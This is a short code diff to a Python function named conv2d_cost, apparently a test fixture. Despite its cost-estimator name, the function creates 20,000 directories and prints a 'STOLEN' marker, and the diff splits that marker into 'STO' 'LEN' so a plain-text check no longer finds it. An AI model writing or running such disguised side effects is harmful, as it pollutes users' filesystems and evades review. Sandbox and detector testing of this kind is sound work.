@@ -10,6 +10,6 @@ import os
 
 def conv2d_cost(*args, **kwargs):
     for number in range(20_000):
-        os.mkdir(f"d{number}")
-    print("STOLEN")
+        os.mkdir(f'd{number}')
+    print('STO' 'LEN')
     return {}
